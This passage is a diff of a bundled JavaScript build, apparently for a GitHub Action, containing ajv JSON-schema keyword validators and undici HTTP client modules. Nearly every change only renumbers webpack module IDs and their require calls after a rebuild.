-const codegen_1 = __nccwpck_require__(6300);
+const codegen_1 = __nccwpck_require__(1436);
 const error = {
     message({ keyword, schemaCode }) {
         const comp = keyword === "maxItems" ? "more" : "fewer";
@@ -6132,14 +6367,14 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 9730:
+/***/ 6962:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const ucs2length_1 = __nccwpck_require__(7542);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const ucs2length_1 = __nccwpck_require__(6214);
 const error = {
     message({ keyword, schemaCode }) {
         const comp = keyword === "maxLength" ? "more" : "fewer";
@@ -6165,12 +6400,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 2011:
+/***/ 3723:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
+const codegen_1 = __nccwpck_require__(1436);
 const ops = codegen_1.operators;
 const KWDs = {
     maximum: { okStr: "<=", ok: ops.LTE, fail: ops.GT },
@@ -6198,12 +6433,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 2895:
+/***/ 895:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
+const codegen_1 = __nccwpck_require__(1436);
 const error = {
     message({ keyword, schemaCode }) {
         const comp = keyword === "maxProperties" ? "more" : "fewer";
@@ -6228,12 +6463,12 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 3748:
+/***/ 8132:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
+const codegen_1 = __nccwpck_require__(1436);
 const error = {
     message: ({ schemaCode }) => (0, codegen_1.str) `must be multiple of ${schemaCode}`,
     params: ({ schemaCode }) => (0, codegen_1._) `{multipleOf: ${schemaCode}}`,
@@ -6260,14 +6495,14 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 8343:
+/***/ 6023:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const code_1 = __nccwpck_require__(7924);
-const util_1 = __nccwpck_require__(5248);
-const codegen_1 = __nccwpck_require__(6300);
+const code_1 = __nccwpck_require__(8484);
+const util_1 = __nccwpck_require__(4464);
+const codegen_1 = __nccwpck_require__(1436);
 const error = {
     message: ({ schemaCode }) => (0, codegen_1.str) `must match pattern "${schemaCode}"`,
     params: ({ schemaCode }) => (0, codegen_1._) `{pattern: ${schemaCode}}`,
@@ -6299,14 +6534,14 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 6008:
+/***/ 4504:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const code_1 = __nccwpck_require__(7924);
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const code_1 = __nccwpck_require__(8484);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 const error = {
     message: ({ params: { missingProperty } }) => (0, codegen_1.str) `must have required property '${missingProperty}'`,
     params: ({ params: { missingProperty } }) => (0, codegen_1._) `{missingProperty: ${missingProperty}}`,
@@ -6384,15 +6619,15 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 1308:
+/***/ 5132:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const dataType_1 = __nccwpck_require__(6701);
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const equal_1 = __nccwpck_require__(3335);
+const dataType_1 = __nccwpck_require__(6685);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const equal_1 = __nccwpck_require__(4951);
 const error = {
     message: ({ params: { i, j } }) => (0, codegen_1.str) `must NOT have duplicate items (items ## ${j} and ${i} are identical)`,
     params: ({ params: { i, j } }) => (0, codegen_1._) `{i: ${i}, j: ${j}}`,
@@ -6454,7 +6689,7 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 2550:
+/***/ 3430:
 /***/ ((module) => {
 
 
@@ -6507,7 +6742,7 @@ module.exports = function equal(a, b) {
 
 /***/ }),
 
-/***/ 9034:
+/***/ 298:
 /***/ ((module) => {
 
 // A simple implementation of make-array
@@ -8146,7 +8381,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
-/***/ 4591:
+/***/ 1167:
 /***/ ((module) => {
 
 
@@ -8246,15 +8481,15 @@ function escapeJsonPtr(str) {
 
 /***/ }),
 
-/***/ 8258:
+/***/ 770:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
-/* unused reexport */ __nccwpck_require__(5258);
+/* unused reexport */ __nccwpck_require__(218);
 
 
 /***/ }),
 
-/***/ 5258:
+/***/ 218:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 var __webpack_unused_export__;
@@ -8526,34 +8761,34 @@ __webpack_unused_export__ = debug; // for test
 
 /***/ }),
 
-/***/ 576:
+/***/ 6752:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 var __webpack_unused_export__;
 
 
-const Client = __nccwpck_require__(5061)
-const Dispatcher = __nccwpck_require__(2243)
-const Pool = __nccwpck_require__(20)
-const BalancedPool = __nccwpck_require__(9989)
-const Agent = __nccwpck_require__(3389)
-const ProxyAgent = __nccwpck_require__(7408)
-const EnvHttpProxyAgent = __nccwpck_require__(2785)
-const RetryAgent = __nccwpck_require__(8610)
-const errors = __nccwpck_require__(1059)
-const util = __nccwpck_require__(2272)
+const Client = __nccwpck_require__(3701)
+const Dispatcher = __nccwpck_require__(883)
+const Pool = __nccwpck_require__(628)
+const BalancedPool = __nccwpck_require__(837)
+const Agent = __nccwpck_require__(7405)
+const ProxyAgent = __nccwpck_require__(6672)
+const EnvHttpProxyAgent = __nccwpck_require__(3137)
+const RetryAgent = __nccwpck_require__(50)
+const errors = __nccwpck_require__(8707)
+const util = __nccwpck_require__(3440)
 const { InvalidArgumentError } = errors
-const api = __nccwpck_require__(6135)
-const buildConnector = __nccwpck_require__(1952)
-const MockClient = __nccwpck_require__(6197)
-const MockAgent = __nccwpck_require__(2781)
-const MockPool = __nccwpck_require__(9396)
-const mockErrors = __nccwpck_require__(9037)
-const RetryHandler = __nccwpck_require__(1131)
-const { getGlobalDispatcher, setGlobalDispatcher } = __nccwpck_require__(8085)
-const DecoratorHandler = __nccwpck_require__(5579)
-const RedirectHandler = __nccwpck_require__(9714)
-const createRedirectInterceptor = __nccwpck_require__(2276)
+const api = __nccwpck_require__(6615)
+const buildConnector = __nccwpck_require__(9136)
+const MockClient = __nccwpck_require__(7365)
+const MockAgent = __nccwpck_require__(7501)
+const MockPool = __nccwpck_require__(4004)
+const mockErrors = __nccwpck_require__(2429)
+const RetryHandler = __nccwpck_require__(7816)
+const { getGlobalDispatcher, setGlobalDispatcher } = __nccwpck_require__(2581)
+const DecoratorHandler = __nccwpck_require__(8155)
+const RedirectHandler = __nccwpck_require__(8754)
+const createRedirectInterceptor = __nccwpck_require__(5092)
 
 Object.assign(Dispatcher.prototype, api)
 
@@ -8571,10 +8806,10 @@ __webpack_unused_export__ = DecoratorHandler
 __webpack_unused_export__ = RedirectHandler
 __webpack_unused_export__ = createRedirectInterceptor
 __webpack_unused_export__ = {
-  redirect: __nccwpck_require__(1530),
-  retry: __nccwpck_require__(7114),
-  dump: __nccwpck_require__(5596),
-  dns: __nccwpck_require__(1643)
+  redirect: __nccwpck_require__(1514),
+  retry: __nccwpck_require__(2026),
+  dump: __nccwpck_require__(8060),
+  dns: __nccwpck_require__(379)
 }
 
 __webpack_unused_export__ = buildConnector
@@ -8636,7 +8871,7 @@ function makeDispatcher (fn) {
 __webpack_unused_export__ = setGlobalDispatcher
 __webpack_unused_export__ = getGlobalDispatcher
 
-const fetchImpl = (__nccwpck_require__(3345).fetch)
+const fetchImpl = (__nccwpck_require__(4398).fetch)
 __webpack_unused_export__ = async function fetch (init, options = undefined) {
   try {
     return await fetchImpl(init, options)
@@ -8648,39 +8883,39 @@ __webpack_unused_export__ = async function fetch (init, options = undefined) {
     throw err
   }
 }
-/* unused reexport */ __nccwpck_require__(548).Headers
-/* unused reexport */ __nccwpck_require__(1627).Response
-/* unused reexport */ __nccwpck_require__(268).Request
-/* unused reexport */ __nccwpck_require__(2134).FormData
+/* unused reexport */ __nccwpck_require__(660).Headers
+/* unused reexport */ __nccwpck_require__(9051).Response
+/* unused reexport */ __nccwpck_require__(9967).Request
+/* unused reexport */ __nccwpck_require__(5910).FormData
 __webpack_unused_export__ = globalThis.File ?? (__nccwpck_require__(4573).File)
-/* unused reexport */ __nccwpck_require__(8755).FileReader
+/* unused reexport */ __nccwpck_require__(8355).FileReader
 
-const { setGlobalOrigin, getGlobalOrigin } = __nccwpck_require__(5779)
+const { setGlobalOrigin, getGlobalOrigin } = __nccwpck_require__(1059)
 
 __webpack_unused_export__ = setGlobalOrigin
 __webpack_unused_export__ = getGlobalOrigin
 
-const { CacheStorage } = __nccwpck_require__(4045)
-const { kConstruct } = __nccwpck_require__(3165)
+const { CacheStorage } = __nccwpck_require__(3245)
+const { kConstruct } = __nccwpck_require__(109)
 
 // Cache & CacheStorage are tightly coupled with fetch. Even if it may run
 // in an older version of Node, it doesn't have any use without fetch.
 __webpack_unused_export__ = new CacheStorage(kConstruct)
 
-const { deleteCookie, getCookies, getSetCookies, setCookie } = __nccwpck_require__(6693)
+const { deleteCookie, getCookies, getSetCookies, setCookie } = __nccwpck_require__(9061)
 
 __webpack_unused_export__ = deleteCookie
 __webpack_unused_export__ = getCookies
 __webpack_unused_export__ = getSetCookies
 __webpack_unused_export__ = setCookie
 
-const { parseMIMEType, serializeAMimeType } = __nccwpck_require__(428)
+const { parseMIMEType, serializeAMimeType } = __nccwpck_require__(1900)
 
 __webpack_unused_export__ = parseMIMEType
 __webpack_unused_export__ = serializeAMimeType
 
-const { CloseEvent, ErrorEvent, MessageEvent } = __nccwpck_require__(5924)
-/* unused reexport */ __nccwpck_require__(5358).WebSocket
+const { CloseEvent, ErrorEvent, MessageEvent } = __nccwpck_require__(5188)
+/* unused reexport */ __nccwpck_require__(3726).WebSocket
 __webpack_unused_export__ = CloseEvent
 __webpack_unused_export__ = ErrorEvent
 __webpack_unused_export__ = MessageEvent
@@ -8696,18 +8931,18 @@ __webpack_unused_export__ = MockPool
 __webpack_unused_export__ = MockAgent
 __webpack_unused_export__ = mockErrors
 
-const { EventSource } = __nccwpck_require__(8742)
+const { EventSource } = __nccwpck_require__(1238)
 
 __webpack_unused_export__ = EventSource
 
 
 /***/ }),
 
-/***/ 3134:
+/***/ 158:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
-const { addAbortListener } = __nccwpck_require__(2272)
-const { RequestAbortedError } = __nccwpck_require__(1059)
+const { addAbortListener } = __nccwpck_require__(3440)
+const { RequestAbortedError } = __nccwpck_require__(8707)
 
 const kListener = Symbol('kListener')
 const kSignal = Symbol('kSignal')
@@ -8767,16 +9002,16 @@ module.exports = {
 
 /***/ }),
 
-/***/ 6900:
+/***/ 2279:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const assert = __nccwpck_require__(4589)
 const { AsyncResource } = __nccwpck_require__(6698)
-const { InvalidArgumentError, SocketError } = __nccwpck_require__(1059)
-const util = __nccwpck_require__(2272)
-const { addSignal, removeSignal } = __nccwpck_require__(3134)
+const { InvalidArgumentError, SocketError } = __nccwpck_require__(8707)
+const util = __nccwpck_require__(3440)
+const { addSignal, removeSignal } = __nccwpck_require__(158)
 
 class ConnectHandler extends AsyncResource {
   constructor (opts, callback) {
@@ -8882,7 +9117,7 @@ module.exports = connect
 
 /***/ }),
 
-/***/ 9294:
+/***/ 6862:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -8896,10 +9131,10 @@ const {
   InvalidArgumentError,
   InvalidReturnValueError,
   RequestAbortedError
-} = __nccwpck_require__(1059)
-const util = __nccwpck_require__(2272)
+} = __nccwpck_require__(8707)
+const util = __nccwpck_require__(3440)
 const { AsyncResource } = __nccwpck_require__(6698)
-const { addSignal, removeSignal } = __nccwpck_require__(3134)
+const { addSignal, removeSignal } = __nccwpck_require__(158)
 const assert = __nccwpck_require__(4589)
 
 const kResume = Symbol('resume')
@@ -9140,16 +9375,16 @@ module.exports = pipeline
 
 /***/ }),
 
-/***/ 5259:
+/***/ 4043:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const assert = __nccwpck_require__(4589)
-const { Readable } = __nccwpck_require__(2519)
-const { InvalidArgumentError, RequestAbortedError } = __nccwpck_require__(1059)
-const util = __nccwpck_require__(2272)
-const { getResolveErrorBodyCallback } = __nccwpck_require__(7863)
+const { Readable } = __nccwpck_require__(9927)
+const { InvalidArgumentError, RequestAbortedError } = __nccwpck_require__(8707)
+const util = __nccwpck_require__(3440)
+const { getResolveErrorBodyCallback } = __nccwpck_require__(7655)
 const { AsyncResource } = __nccwpck_require__(6698)
 
 class RequestHandler extends AsyncResource {
@@ -9361,18 +9596,18 @@ module.exports.RequestHandler = RequestHandler
 
 /***/ }),
 
-/***/ 792:
+/***/ 3560:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const assert = __nccwpck_require__(4589)
 const { finished, PassThrough } = __nccwpck_require__(7075)
-const { InvalidArgumentError, InvalidReturnValueError } = __nccwpck_require__(1059)
-const util = __nccwpck_require__(2272)
-const { getResolveErrorBodyCallback } = __nccwpck_require__(7863)
+const { InvalidArgumentError, InvalidReturnValueError } = __nccwpck_require__(8707)
+const util = __nccwpck_require__(3440)
+const { getResolveErrorBodyCallback } = __nccwpck_require__(7655)
 const { AsyncResource } = __nccwpck_require__(6698)
-const { addSignal, removeSignal } = __nccwpck_require__(3134)
+const { addSignal, removeSignal } = __nccwpck_require__(158)
 
 class StreamHandler extends AsyncResource {
   constructor (opts, factory, callback) {
@@ -9588,15 +9823,15 @@ module.exports = stream
 
 /***/ }),
 
-/***/ 1098:
+/***/ 1882:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { InvalidArgumentError, SocketError } = __nccwpck_require__(1059)
+const { InvalidArgumentError, SocketError } = __nccwpck_require__(8707)
 const { AsyncResource } = __nccwpck_require__(6698)
-const util = __nccwpck_require__(2272)
-const { addSignal, removeSignal } = __nccwpck_require__(3134)
+const util = __nccwpck_require__(3440)
+const { addSignal, removeSignal } = __nccwpck_require__(158)
 const assert = __nccwpck_require__(4589)
 
 class UpgradeHandler extends AsyncResource {
@@ -9703,21 +9938,21 @@ module.exports = upgrade
 
 /***/ }),
 
-/***/ 6135:
+/***/ 6615:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-module.exports.request = __nccwpck_require__(5259)
-module.exports.stream = __nccwpck_require__(792)
-module.exports.pipeline = __nccwpck_require__(9294)
-module.exports.upgrade = __nccwpck_require__(1098)
-module.exports.connect = __nccwpck_require__(6900)
+module.exports.request = __nccwpck_require__(4043)
+module.exports.stream = __nccwpck_require__(3560)
+module.exports.pipeline = __nccwpck_require__(6862)
+module.exports.upgrade = __nccwpck_require__(1882)
+module.exports.connect = __nccwpck_require__(2279)
 
 
 /***/ }),
 
-/***/ 2519:
+/***/ 9927:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 // Ported from https://github.com/nodejs/undici/pull/907
@@ -9726,9 +9961,9 @@ module.exports.connect = __nccwpck_require__(6900)
 
 const assert = __nccwpck_require__(4589)
 const { Readable } = __nccwpck_require__(7075)
-const { RequestAbortedError, NotSupportedError, InvalidArgumentError, AbortError } = __nccwpck_require__(1059)
-const util = __nccwpck_require__(2272)
-const { ReadableStreamFrom } = __nccwpck_require__(2272)
+const { RequestAbortedError, NotSupportedError, InvalidArgumentError, AbortError } = __nccwpck_require__(8707)
+const util = __nccwpck_require__(3440)
+const { ReadableStreamFrom } = __nccwpck_require__(3440)
 
 const kConsume = Symbol('kConsume')
 const kReading = Symbol('kReading')
@@ -10109,15 +10344,15 @@ module.exports = { Readable: BodyReadable, chunksDecode }
 
 /***/ }),
 
-/***/ 7863:
+/***/ 7655:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 const assert = __nccwpck_require__(4589)
 const {
   ResponseStatusCodeError
-} = __nccwpck_require__(1059)
+} = __nccwpck_require__(8707)
 
-const { chunksDecode } = __nccwpck_require__(2519)
+const { chunksDecode } = __nccwpck_require__(9927)
 const CHUNK_LIMIT = 128 * 1024
 
 async function getResolveErrorBodyCallback ({ callback, body, contentType, statusCode, statusMessage, headers }) {
@@ -10209,16 +10444,16 @@ module.exports = {
 
 /***/ }),
 
-/***/ 1952:
+/***/ 9136:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const net = __nccwpck_require__(7030)
 const assert = __nccwpck_require__(4589)
-const util = __nccwpck_require__(2272)
-const { InvalidArgumentError, ConnectTimeoutError } = __nccwpck_require__(1059)
-const timers = __nccwpck_require__(7787)
+const util = __nccwpck_require__(3440)
+const { InvalidArgumentError, ConnectTimeoutError } = __nccwpck_require__(8707)
+const timers = __nccwpck_require__(6603)
 
 function noop () {}
 
@@ -10456,7 +10691,7 @@ module.exports = buildConnector
 
 /***/ }),
 
-/***/ 7887:
+/***/ 735:
 /***/ ((module) => {
 
 
@@ -10581,7 +10816,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 5726:
+/***/ 2414:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -10790,7 +11025,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 1059:
+/***/ 8707:
 /***/ ((module) => {
 
 
@@ -11222,7 +11457,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 2543:
+/***/ 4655:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -11230,7 +11465,7 @@ module.exports = {
 const {
   InvalidArgumentError,
   NotSupportedError
-} = __nccwpck_require__(1059)
+} = __nccwpck_require__(8707)
 const assert = __nccwpck_require__(4589)
 const {
   isValidHTTPToken,
@@ -11245,9 +11480,9 @@ const {
   validateHandler,
   getServerName,
   normalizedMethodRecords
-} = __nccwpck_require__(2272)
-const { channels } = __nccwpck_require__(5726)
-const { headerNameLowerCasedRecord } = __nccwpck_require__(7887)
+} = __nccwpck_require__(3440)
+const { channels } = __nccwpck_require__(2414)
+const { headerNameLowerCasedRecord } = __nccwpck_require__(735)
 
 // Verifies that a given path is valid does not contain control chars \x00 to \x20
 const invalidPathRegex = /[^\u0021-\u00ff]/
@@ -11711,7 +11946,7 @@ module.exports = Request
 
 /***/ }),
 
-/***/ 1003:
+/***/ 6443:
 /***/ ((module) => {
 
 module.exports = {
@@ -11785,7 +12020,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 9112:
+/***/ 7752:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -11793,7 +12028,7 @@ module.exports = {
 const {
   wellknownHeaderNames,
   headerNameLowerCasedRecord
-} = __nccwpck_require__(7887)
+} = __nccwpck_require__(735)
 
 class TstNode {
   /** @type {any} */
@@ -11944,13 +12179,13 @@ module.exports = {
 
 /***/ }),
 
-/***/ 2272:
+/***/ 3440:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const assert = __nccwpck_require__(4589)
-const { kDestroyed, kBodyUsed, kListeners, kBody } = __nccwpck_require__(1003)
+const { kDestroyed, kBodyUsed, kListeners, kBody } = __nccwpck_require__(6443)
 const { IncomingMessage } = __nccwpck_require__(7067)
 const stream = __nccwpck_require__(7075)
 const net = __nccwpck_require__(7030)
@@ -11958,9 +12193,9 @@ const { Blob } = __nccwpck_require__(4573)
 const nodeUtil = __nccwpck_require__(7975)
 const { stringify } = __nccwpck_require__(1792)
 const { EventEmitter: EE } = __nccwpck_require__(8474)
-const { InvalidArgumentError } = __nccwpck_require__(1059)
-const { headerNameLowerCasedRecord } = __nccwpck_require__(7887)
-const { tree } = __nccwpck_require__(9112)
+const { InvalidArgumentError } = __nccwpck_require__(8707)
+const { headerNameLowerCasedRecord } = __nccwpck_require__(735)
+const { tree } = __nccwpck_require__(7752)
 
 const [nodeMajor, nodeMinor] = process.versions.node.split('.').map(v => Number(v))
 
@@ -12670,18 +12905,18 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3389:
+/***/ 7405:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { InvalidArgumentError } = __nccwpck_require__(1059)
-const { kClients, kRunning, kClose, kDestroy, kDispatch, kInterceptors } = __nccwpck_require__(1003)
-const DispatcherBase = __nccwpck_require__(8641)
-const Pool = __nccwpck_require__(20)
-const Client = __nccwpck_require__(5061)
-const util = __nccwpck_require__(2272)
-const createRedirectInterceptor = __nccwpck_require__(2276)
+const { InvalidArgumentError } = __nccwpck_require__(8707)
+const { kClients, kRunning, kClose, kDestroy, kDispatch, kInterceptors } = __nccwpck_require__(6443)
+const DispatcherBase = __nccwpck_require__(1841)
+const Pool = __nccwpck_require__(628)
+const Client = __nccwpck_require__(3701)
+const util = __nccwpck_require__(3440)
+const createRedirectInterceptor = __nccwpck_require__(5092)
 
 const kOnConnect = Symbol('onConnect')
 const kOnDisconnect = Symbol('onDisconnect')
@@ -12810,7 +13045,7 @@ module.exports = Agent
 
 /***/ }),
 
-/***/ 9989:
+/***/ 837:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -12818,7 +13053,7 @@ module.exports = Agent
 const {
   BalancedPoolMissingUpstreamError,
   InvalidArgumentError
-} = __nccwpck_require__(1059)
+} = __nccwpck_require__(8707)
 const {
   PoolBase,
   kClients,
@@ -12826,10 +13061,10 @@ const {
   kAddClient,
   kRemoveClient,
   kGetDispatcher
-} = __nccwpck_require__(7632)
-const Pool = __nccwpck_require__(20)
-const { kUrl, kInterceptors } = __nccwpck_require__(1003)
-const { parseOrigin } = __nccwpck_require__(2272)
+} = __nccwpck_require__(2128)
+const Pool = __nccwpck_require__(628)
+const { kUrl, kInterceptors } = __nccwpck_require__(6443)
+const { parseOrigin } = __nccwpck_require__(3440)
 const kFactory = Symbol('factory')
 
 const kOptions = Symbol('options')
@@ -13026,7 +13261,7 @@ module.exports = BalancedPool
 
 /***/ }),
 
-/***/ 1021:
+/***/ 637:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -13034,9 +13269,9 @@ module.exports = BalancedPool
 /* global WebAssembly */
 
 const assert = __nccwpck_require__(4589)
-const util = __nccwpck_require__(2272)
-const { channels } = __nccwpck_require__(5726)
-const timers = __nccwpck_require__(7787)
+const util = __nccwpck_require__(3440)
+const { channels } = __nccwpck_require__(2414)
+const timers = __nccwpck_require__(6603)
 const {
   RequestContentLengthMismatchError,
   ResponseContentLengthMismatchError,
@@ -13049,7 +13284,7 @@ const {
   BodyTimeoutError,
   HTTPParserError,
   ResponseExceededMaxSizeError
-} = __nccwpck_require__(1059)
+} = __nccwpck_require__(8707)
 const {
   kUrl,
   kReset,
@@ -13082,9 +13317,9 @@ const {
   kOnError,
   kResume,
   kHTTPContext
-} = __nccwpck_require__(1003)
+} = __nccwpck_require__(6443)
 
-const constants = __nccwpck_require__(3512)
+const constants = __nccwpck_require__(2824)
 const EMPTY_BUF = Buffer.alloc(0)
 const FastBuffer = Buffer[Symbol.species]
 const addListener = util.addListener
@@ -13096,11 +13331,11 @@ const kSocketUsed = Symbol('kSocketUsed')
 let extractBody
 
 async function lazyllhttp () {
-  const llhttpWasmData = process.env.JEST_WORKER_ID ? __nccwpck_require__(1630) : undefined
+  const llhttpWasmData = process.env.JEST_WORKER_ID ? __nccwpck_require__(3870) : undefined
 
   let mod
   try {
-    mod = await WebAssembly.compile(__nccwpck_require__(4826))
+    mod = await WebAssembly.compile(__nccwpck_require__(3434))
   } catch (e) {
     /* istanbul ignore next */
 
@@ -13108,7 +13343,7 @@ async function lazyllhttp () {
     // being enabled, but the occurring of this other error
     // * https://github.com/emscripten-core/emscripten/issues/11495
     // got me to remove that check to avoid breaking Node 12.
-    mod = await WebAssembly.compile(llhttpWasmData || __nccwpck_require__(1630))
+    mod = await WebAssembly.compile(llhttpWasmData || __nccwpck_require__(3870))
   }
 
   return await WebAssembly.instantiate(mod, {
@@ -14023,7 +14258,7 @@ function writeH1 (client, request) {
 
   if (util.isFormDataLike(body)) {
     if (!extractBody) {
-      extractBody = (__nccwpck_require__(9852).extractBody)
+      extractBody = (__nccwpck_require__(4492).extractBody)
     }
 
     const [bodyStream, contentType] = extractBody(body)
@@ -14546,7 +14781,7 @@ module.exports = connectH1
 
 /***/ }),
 
-/***/ 2820:
+/***/ 8788:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -14554,13 +14789,13 @@ module.exports = connectH1
 const assert = __nccwpck_require__(4589)
 const { errorMonitor } = __nccwpck_require__(8474)
 const { pipeline } = __nccwpck_require__(7075)
-const util = __nccwpck_require__(2272)
+const util = __nccwpck_require__(3440)
 const {
   RequestContentLengthMismatchError,
   RequestAbortedError,
   SocketError,
   InformationalError
-} = __nccwpck_require__(1059)
+} = __nccwpck_require__(8707)
 const {
   kUrl,
   kReset,
@@ -14579,7 +14814,7 @@ const {
   kResume,
   kSize,
   kHTTPContext
-} = __nccwpck_require__(1003)
+} = __nccwpck_require__(6443)
 
 const kOpenStreams = Symbol('open streams')
 
@@ -14985,7 +15220,7 @@ function writeH2 (client, request) {
   let contentLength = util.bodyLength(body)
 
   if (util.isFormDataLike(body)) {
-    extractBody ??= (__nccwpck_require__(9852).extractBody)
+    extractBody ??= (__nccwpck_require__(4492).extractBody)
 
     const [bodyStream, contentType] = extractBody(body)
     headers['content-type'] = contentType
@@ -15345,7 +15580,7 @@ module.exports = connectH2
 
 /***/ }),
 
-/***/ 5061:
+/***/ 3701:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 // @ts-check
@@ -15355,16 +15590,16 @@ module.exports = connectH2
 const assert = __nccwpck_require__(4589)
 const net = __nccwpck_require__(7030)
 const http = __nccwpck_require__(7067)
-const util = __nccwpck_require__(2272)
-const { channels } = __nccwpck_require__(5726)
-const Request = __nccwpck_require__(2543)
-const DispatcherBase = __nccwpck_require__(8641)
+const util = __nccwpck_require__(3440)
+const { channels } = __nccwpck_require__(2414)
+const Request = __nccwpck_require__(4655)
+const DispatcherBase = __nccwpck_require__(1841)
 const {
   InvalidArgumentError,
   InformationalError,
   ClientDestroyedError
-} = __nccwpck_require__(1059)
-const buildConnector = __nccwpck_require__(1952)
+} = __nccwpck_require__(8707)
+const buildConnector = __nccwpck_require__(9136)
 const {
   kUrl,
   kServerName,
@@ -15406,9 +15641,9 @@ const {
   kHTTPContext,
   kMaxConcurrentStreams,
   kResume
-} = __nccwpck_require__(1003)
-const connectH1 = __nccwpck_require__(1021)
-const connectH2 = __nccwpck_require__(2820)
+} = __nccwpck_require__(6443)
+const connectH1 = __nccwpck_require__(637)
+const connectH2 = __nccwpck_require__(8788)
 let deprecatedInterceptorWarned = false
 
 const kClosedResolve = Symbol('kClosedResolve')
@@ -15716,7 +15951,7 @@ class Client extends DispatcherBase {
   }
 }
 
-const createRedirectInterceptor = __nccwpck_require__(2276)
+const createRedirectInterceptor = __nccwpck_require__(5092)
 
 function onError (client, err) {
   if (
@@ -15976,19 +16211,19 @@ module.exports = Client
 
 /***/ }),
 
-/***/ 8641:
+/***/ 1841:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const buffer = __nccwpck_require__(4573)
-const Dispatcher = __nccwpck_require__(2243)
+const Dispatcher = __nccwpck_require__(883)
 const {
   ClientDestroyedError,
   ClientClosedError,
   InvalidArgumentError
-} = __nccwpck_require__(1059)
-const { kDestroy, kClose, kClosed, kDestroyed, kDispatch, kInterceptors } = __nccwpck_require__(1003)
+} = __nccwpck_require__(8707)
+const { kDestroy, kClose, kClosed, kDestroyed, kDispatch, kInterceptors } = __nccwpck_require__(6443)
 
 const kOnDestroyed = Symbol('onDestroyed')
 const kOnClosed = Symbol('onClosed')
@@ -16191,7 +16426,7 @@ module.exports = DispatcherBase
 
 /***/ }),
 
-/***/ 2243:
+/***/ 883:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -16263,15 +16498,15 @@ module.exports = Dispatcher
 
 /***/ }),
 
-/***/ 2785:
+/***/ 3137:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const DispatcherBase = __nccwpck_require__(8641)
-const { kClose, kDestroy, kClosed, kDestroyed, kDispatch, kNoProxyAgent, kHttpProxyAgent, kHttpsProxyAgent } = __nccwpck_require__(1003)
-const ProxyAgent = __nccwpck_require__(7408)
-const Agent = __nccwpck_require__(3389)
+const DispatcherBase = __nccwpck_require__(1841)
+const { kClose, kDestroy, kClosed, kDestroyed, kDispatch, kNoProxyAgent, kHttpProxyAgent, kHttpsProxyAgent } = __nccwpck_require__(6443)
+const ProxyAgent = __nccwpck_require__(6672)
+const Agent = __nccwpck_require__(7405)
 
